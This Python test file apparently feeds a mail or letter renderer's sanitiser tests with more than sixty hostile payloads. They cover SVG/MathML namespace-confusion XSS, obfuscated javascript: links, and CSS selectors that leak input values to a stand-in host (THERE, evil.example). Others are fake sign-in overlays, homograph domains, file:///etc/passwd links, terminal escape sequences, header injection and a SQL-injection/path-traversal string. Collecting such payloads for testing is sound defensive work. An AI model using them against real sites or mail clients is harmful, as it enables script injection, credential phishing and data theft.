"""More than sixty attacks beside ``payloads``: newer features of browsers, odd spellings.

Each is the letter's only content, wherever it has content.
"""

# ruff: noqa: E501 - a payload is easier to read on one line

from tests.page.hostile.payloads import RUN, THERE

COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
NAMESPACES = [
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mi><svg><desc><iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></desc></svg></mi></math>",
    f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
    f"<math></br><style><!--</style><img src=x onerror={RUN}>--></style>",
    f"<svg><![CDATA[><img src={THERE}/cdata onerror={RUN}>]]></svg>",
    f"<svg><use href='data:image/svg+xml,%3Csvg id=x xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22{THERE}/use%22/%3E%3C/svg%3E#x'/></svg>",
    f"<svg><filter id=f><feImage href='{THERE}/fe'/></filter><rect filter='url({THERE}/fi#f)' width=9 height=9 /></svg>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text>x</text></a></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler><discard onbegin={RUN}></svg>",
    f"<math href='javascript:{RUN}'><maction actiontype='statusline#{THERE}' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></title></svg>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script><html:img xmlns:html='http://www.w3.org/1999/xhtml' src={THERE}/ns>",
    f"<table><tr><td><svg><mtext></td></tr><style><img src=x onerror={RUN}></style></table>",
    f"<select><template><option><svg></select><img src=x onerror={RUN}>",
    f"<select><button><selectedcontent></selectedcontent></button><option><img src={THERE}/sel onerror={RUN}></select>",
]
STYLES = [
    f"<div style='{COVER};background:#fff'><h1>Sign in again</h1><a href='{THERE}/login'>Sign in</a></div>",
    f"<a href='{THERE}/all' style='{COVER};opacity:0'>everything</a>",
    "<style>body,main,.letter{display:none!important}html{background:red!important}*{visibility:hidden}</style>",
    f"<style>input[value^=a]{{background:url({THERE}/leak-a)}}a[href*=d]{{background:url({THERE}/leak-d)}}</style>",
    f"<style>@import '{THERE}/layer.css' layer(x);@namespace svg url({THERE}/ns);</style>",
    f"<style>@property --p{{syntax:'<image>';inherits:false;initial-value:url({THERE}/pr)}}*{{background:var(--p)}}</style>",
    f"<style>@container style(--a:b){{*{{background:url({THERE}/cs)}}}}@media all{{*{{mask:url({THERE}/ma)}}}}</style>",
    f"<style>@view-transition{{navigation:auto}}::view-transition{{background:url({THERE}/vt)}}</style>",
    f"<p style=\"background:src('{THERE}/src');border-image:cross-fade(url({THERE}/x1),url({THERE}/x2)) 1\">x</p>",
    f"<p style='clip-path:url({THERE}/cp#x);mask-image:url({THERE}/mi);filter:url({THERE}/f#x);shape-outside:url({THERE}/so)'>x</p>",
    f"<p style='-moz-binding:url({THERE}/xbl#x);behavior:url({THERE}/htc);width:expression({RUN})'>x</p>",
    f"<p style='background:u/**/rl({THERE}/c1);background:url/**/({THERE}/c2);b/**/ackground:url({THERE}/c3)'>x</p>",
    f"<p style='background:url(\"{THERE}/nl\\\n1\")'>x</p><p style='background:URL({THERE}/up)'>x</p>",
    f"<p style='}}*{{background:url({THERE}/br)}}'>x</p><p style='--x:</style><img src=x onerror={RUN}>'>x</p>",
    "<p style='animation:x 1s;transition:all 9s;position:sticky;transform:scale(99);margin:-99999px'>x</p>",
    "<div style='height:99999999px;width:99999999px;font-size:99999px;line-height:9999'>tall</div>",
    f"<ul style='list-style-image:url({THERE}/li)'><li style='content:url({THERE}/lc)'>x</ul>",
    f"<font style='font-family:x;src:url({THERE}/fo)' face='x;background:url({THERE}/fa)' color='expression({RUN})'>x</font>",
]
ELEMENTS = [
    f"<meta http-equiv=Set-Cookie content='session=x'><meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta http-equiv=refresh content='0;javascript:{RUN}'>",
    "<meta name=viewport content='width=1'><meta name=color-scheme content=dark><meta charset=utf-7><meta name=theme-color content=red>",
    f"<link rel=preload as=image imagesrcset='{THERE}/pre 1x' href='{THERE}/pre'><link rel='stylesheet preload' href='{THERE}/both' as=style>",
    f"<link rel=prerender href='{THERE}/prr'><link rel=manifest href='{THERE}/mf'><link rel='shortcut icon' href='{THERE}/ic'><link rel=compression-dictionary href='{THERE}/cd'>",
    f"<link rel=expect href='#x' blocking=render><script async type=module src='{THERE}/mod' blocking=render></script>",
    f'<script type=importmap>{{"imports":{{"x":"{THERE}/im"}}}}</script><script type=module>import \'x\'</script>',
    f"<div popover id=pop><iframe src={THERE}/pop></iframe></div><button popovertarget=pop commandfor=pop command=show-popover autofocus onfocus={RUN}>x</button>",
    f"<dialog open style='{COVER}'><form method=dialog action={THERE}/dlg><button autofocus>OK</button></form></dialog>",
    f"<details ontoggle={RUN} open name=x><summary onclick={RUN}>s</summary><iframe src={THERE}/det></iframe></details>",
    f"<p contenteditable autofocus onfocus={RUN} tabindex=1 accesskey=s onbeforeinput={RUN} inputmode=none>write here</p>",
    f"<p draggable=true ondragstart={RUN} oncontentvisibilityautostatechange={RUN} style='content-visibility:auto'>x</p>",
    f"<p onscrollsnapchange={RUN} onbeforematch={RUN} hidden=until-found>found</p><search onfocusin={RUN} tabindex=0 autofocus>x</search>",
    f"<a href='{THERE}/attr' attributionsrc='{THERE}/as' target=_top rel=opener referrerpolicy=unsafe-url download='x.exe'>a</a>",
    f"<img src='cid:a@b' attributionsrc='{THERE}/ia' fetchpriority=high loading=eager elementtiming=x crossorigin usemap='#m' longdesc='{THERE}/ld' ismap>",
    f"<img src='{THERE}/a.png' src='cid:a@b'><img/src='{THERE}/sl'/onerror={RUN}//><img\x0csrc={THERE}/ff\x0conerror={RUN}>",
    f"<img src=' {THERE}/sp'><img src='\t\n{THERE}/tn'><img src='//evil.example/pr'><img src='\\\\evil.example\\bs'><img src='http:evil.example/nc'>",
    f"<img srcset=',,{THERE}/ss1 1x,data:,x 2x' sizes='(min-width:1px) 1px'><img src='&#104;ttp://evil.example/ent'>",
    f"<object type=text/html data='data:text/html,<script>{RUN}</script>'><param name=movie value={THERE}/pm></object><embed type=image/svg+xml src='data:image/svg+xml,<svg/>'>",
    f"<iframe src='javascript:{RUN}' credentialless sandbox allow='camera *'></iframe><iframe src=about:blank onload={RUN} name=content></iframe>",
    f"<video controls preload=auto><source src={THERE}/vs onerror={RUN}><track default src={THERE}/vt></video><audio autoplay src={THERE}/aa onloadstart={RUN}>",
    f"<form id=f action='{THERE}/ff' target=_top onformdata={RUN}><input name=letter type=checkbox form=correct checked></form><button form=correct formaction={THERE}/fa type=submit>x</button>",
    f"<input type=file onchange={RUN}><input type=password name=password autocomplete=current-password><output for=x form=correct>1</output><meter value=1>",
    f"<textarea form=correct name=other>{THERE}</textarea><label for=keys-on>press</label><fieldset disabled><legend onclick={RUN}>x</legend></fieldset>",
    "<a href='#content'>top</a><a href='#letter-1'>x</a><a href='?page=9'>x</a><a href='/sign-out'>out</a><a href='.'>x</a><a name=content id=content>here</a>",
    f"<html manifest={THERE}/man><head profile={THERE}/prof><body background={THERE}/bb onhashchange={RUN} onmessage={RUN} onunload={RUN}>",
    f"<table background={THERE}/tb><thead background={THERE}/th><tr background={THERE}/tr><td background={THERE}/td><table>{'<tr>' + '<td>x' * 60}</table>",
    "<table width=99999999 height=99999999 border=99999 cellspacing=99999><tr><td colspan=99999 rowspan=65534 width='9999999%'>wide</table>",
    "<div>" * 700 + "deep" + "<table><td>" * 60,
    f"<script/x>{RUN}</script/x><script\x0c>{RUN}</script><SCRIPT>{RUN}</ScRiPt ><script>{RUN}</script\t><<script>{RUN}//<</script>",
    f"<a href='jav&#x09;ascript:{RUN}'>a</a><a href='&Tab;javascript&colon;{RUN}'>b</a><a href='\x01javascript:{RUN}'>c</a><a href='javascript&#58;{RUN}'>d</a>",
    f"<a href='JaVaScRiPt:{RUN}'>a</a><a href='view-source:x'>b</a><a href='filesystem:x'>c</a><a href='intent://x#Intent;end'>d</a><a href='ms-word:ofe|u|{THERE}/x.docx'>e</a><a href='file:///etc/passwd'>f</a>",
    f"<a href='{THERE}\x00/nul'>a</a><a href=\"http://yandex.ru@evil.example/\">yandex.ru</a><a href='http://y\u0430ndex.ru/'>yandex.ru</a><a href='http://xn--yndex-3ve.ru'>yandex.ru</a>",
    f"<p>--></p><!-- x --!><img src=x onerror={RUN}><!-- <!-- --> --><!--><script>{RUN}</script>--><! x><img src={THERE}/bang>",
    f"<title></title/><img src=x onerror={RUN}></title><noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed><noframes><p title='</noframes><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template><template shadowrootmode=open shadowrootclonable><slot></slot><link rel=stylesheet href={THERE}/sh></template><slot name=x>",
    f"<listing><img src=x onerror={RUN}></listing><pre>\n<img src={THERE}/pre2 onerror={RUN}></pre><plaintext><img src=x onerror={RUN}>",
]
SIGNS = [
    "invoice\u202efdp.exe\u202c \u2067\u2066abc\u2069 \u061c\u200e\u200f",
    "Re:\u2028X-Header: injected\u2029\x0bBcc: all@example.ru\x0c\x85\x1c\x1d",
    "sup\u0440ort@y\u0430nd\u0435x.ru \u1d18\u1d00\u028f\u1d18\u1d00\u029f \uff1cscript\uff1e \ufe64b\ufe65",
    "Z\u0351\u036b\u0343\u036a"
    + "\u0302\u036b\u033d" * 90
    + "algo \U000e0041\U000e0042\ufe0f\u20e3\u180e\u3164\u115f\u2800",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m \x08\x08\x7f",
    "\ufdfa" * 60 + "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40 + " " + "W" * 190,
    '\'; DROP TABLE letters; -- {"$ne": null} ../../etc/passwd%00.png C:\\x\\con.txt|y',
]
NEWER = [*NAMESPACES, *STYLES, *ELEMENTS, *SIGNS]
